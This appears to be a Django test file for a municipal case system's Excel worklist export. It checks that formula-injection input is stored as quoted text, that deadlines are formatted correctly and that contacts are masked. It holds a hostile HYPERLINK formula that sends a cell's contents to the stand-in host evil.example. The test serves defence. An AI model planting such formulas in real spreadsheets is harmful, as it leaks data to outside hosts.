"""The worklist's Excel export, downloaded as a dispatcher and read back."""

import re
from datetime import datetime
from io import BytesIO

from django.core.cache import cache
from django.urls import reverse
from openpyxl import load_workbook

from gridgov.cases.models import Case
from gridgov.cases.tests.base import CaseTestCase, at
from gridgov.lib import xlsx

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


class WorklistExportTests(CaseTestCase):
    def setUp(self):
        cache.clear()

    def export(self, worklist, user=None):
        self.login(user or self.dispatcher)
        response = self.client.get(reverse("cases:export"), {"list": worklist})
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Content-Type"], xlsx.CONTENT_TYPE)
        sheet = load_workbook(BytesIO(response.content)).active
        header = [cell.value for cell in sheet[1]]
        rows = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(2)}
        return sheet, header, rows

    def test_a_title_typed_on_the_public_form_is_exported_as_text_not_a_formula(self):
        self.client.post(
            reverse("public_report"),
            {
                "case_type": "complaint",
                "title": HOSTILE_TITLE,
                "description": "@SUM(1+1) 楼道里堆满杂物",
                "address": "滨江社区门口",
                "reporter_name": "李四",
                "reporter_phone": "13911112222",
            },
        )
        case = Case.objects.get()
        _sheet, _header, rows = self.export("to_register")
        for column, text in (("标题", HOSTILE_TITLE), ("描述", "@SUM(1+1) 楼道里堆满杂物")):
            cell = rows[case.number][column]
            self.assertEqual((cell.value, cell.data_type), (text, "s"))
            self.assertTrue(cell.quotePrefix)

    def test_each_formula_start_is_quoted_wherever_it_comes_from(self):
        # (A leading tab or CR is stripped at intake; the writer's own tests cover them.)
        for start in ("=", "+", "-", "@"):
            case = self.intake(title=f"{start}1+1 垃圾")
            _sheet, _header, rows = self.export("to_register")
            cell = rows[case.number]["标题"]
            self.assertEqual((cell.data_type, cell.quotePrefix), ("s", True), repr(start))

    def test_deadlines_are_exported_as_the_case_page_shows_them(self):
        case = self.dispatched(at=at(2026, 3, 2, 10))
        self.login(self.dispatcher)
        page = self.client.get(reverse("cases:detail", args=[case.number])).content.decode()
        _sheet, _header, rows = self.export("all")
        row = rows[case.number]
        # Header and page label are the same words: 签收时限, 反馈时限, 结案时限.
        for label in ("签收时限", "反馈时限", "结案时限"):
            shown = re.search(rf"<dt>{label}</dt><dd>([^<]+)</dd>", page).group(1)
            self.assertEqual(row[label].value, datetime.strptime(shown, "%Y-%m-%d %H:%M"))
            self.assertEqual(row[label].number_format, xlsx.DATETIME)
        # The end of a working day: 23:59 on the page and in the sheet, not 00:00 next day.
        self.assertEqual((row["结案时限"].value.hour, row["结案时限"].value.minute), (23, 59))

    def test_it_has_the_description_and_the_responsible_units_with_contacts_masked(self):
        case = self.dispatched()
        accepted = self.dispatched()
        self.act(self.handler, accepted, "accept")
        Case.objects.filter(pk=case.pk).update(description="请拨打13812345678联系张三")
        _sheet, header, rows = self.export("all")
        self.assertIn("描述", header)
        self.assertIn("责任单位", header)
        self.assertEqual(rows[case.number]["描述"].value, "请拨打138****5678联系张*")
        self.assertEqual(rows[accepted.number]["责任单位"].value, self.department.name)
        self.assertNotIn("13812341234", str([[c.value for c in r.values()] for r in rows.values()]))

    def test_the_header_is_frozen_filtered_and_the_columns_fit(self):
        self.registered()
        sheet, header, rows = self.export("to_dispatch")
        self.assertEqual(sheet.freeze_panes, "A2")
        self.assertEqual(sheet.auto_filter.ref, f"A1:N{len(rows) + 1}")
        self.assertEqual(len(header), 14)
        title_width = sheet.column_dimensions["B"].width
        self.assertGreaterEqual(title_width, 2 * len("垃圾堆积"))
